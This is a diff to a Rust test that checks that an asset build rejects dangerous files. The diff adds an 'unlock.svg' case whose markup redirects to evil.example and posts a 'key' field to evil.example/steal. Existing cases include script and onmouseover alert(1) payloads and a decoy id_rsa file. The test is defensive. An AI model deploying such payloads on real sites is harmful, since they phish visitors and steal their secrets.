@@ -62,7 +62,7 @@ fn anything_else_is_a_build_error_naming_the_file() {
     let outside = tempfile::tempdir().unwrap();
     let secret = outside.path().join("id_rsa.png");
     fs::write(&secret, samples::PNG).unwrap();
-    let cases: [(&str, &[u8], &str); 6] = [
+    let cases: [(&str, &[u8], &str); 7] = [
         (
             "page.html",
             b"<html><script>alert(1)</script></html>",
@@ -78,6 +78,14 @@ fn anything_else_is_a_build_error_naming_the_file() {
             "nested/hover.svg",
             b"<svg xmlns=\"http://www.w3.org/2000/svg\">\n<rect onmouseover=\"alert(1)\"/></svg>",
             "event handler",
+        ),
+        (
+            "unlock.svg",
+            b"<svg xmlns=\"http://www.w3.org/1999/xhtml\" width=\"10\" height=\"10\"><head>\
+              <meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\"/></head>\
+              <form action=\"https://evil.example/steal\" method=\"post\"><input name=\"key\"/>\
+              <button>Unlock</button></form></svg>",
+            "unlock.svg:1: SVG with a `<svg>` element outside the SVG namespace",
         ),
         ("fake.html", samples::PNG, "not named .png"),
         ("fake.png", b"<p>hi</p>", "not an image"),
